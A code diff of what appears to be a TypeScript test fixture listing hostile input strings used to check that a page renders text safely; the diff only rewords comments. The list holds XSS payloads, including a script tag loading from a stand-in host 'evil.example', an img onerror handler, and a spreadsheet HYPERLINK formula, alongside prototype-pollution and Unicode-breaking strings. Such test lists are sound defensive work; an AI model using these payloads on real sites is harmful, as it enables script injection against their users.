@@ -1,4 +1,7 @@
-/** Texts that try to be more than text (trust.md F10). In a page each of them would call `xss`, load from elsewhere, or become an element. */
+/**
+ * Hostile texts. If a page interpreted one of them, it would call `xss`, load a foreign resource or
+ * create an element.
+ */
 export const HOSTILE_TEXTS: readonly string[] = [
   '<script>xss()</script>',
   '<script src=//evil.example/x.js></script>',
@@ -60,7 +63,7 @@ export const HOSTILE_TEXTS: readonly string[] = [
   '</title><img src=x onerror=xss()>',
   '__proto__ constructor toString',
   '=HYPERLINK("//evil.example","x")',
-  // nothing runs in these; they bend lines and widths
+  // These run nothing; they break lines and widths.
   '\u202Eevitcelloc\u202C \u2066x\u2069 \u200B\u200D\uFEFF',
   'Z\u0351\u036B\u0343\u036A\u0302\u0301a\u0351\u0489\u0315l\u0334\u0322g\u0361\u036Ao\u033A\u032C',
   'W'.repeat(60),
@@ -68,7 +71,7 @@ export const HOSTILE_TEXTS: readonly string[] = [
   '\u0E01\u0E4D\u0E4D\u0E4D\u0E4D\u0E4D\u0E4D\u0E4D\u0E4D',
 ]
 
-/** Hands out texts of at most `max` letters, in turn, so that every one of them comes through some door. */
+/** Returns texts of at most `max` characters in turn, so that each of them is entered somewhere. */
 export function hostileTexts(): (max: number) => string {
   let at = 0
   return (max) => {
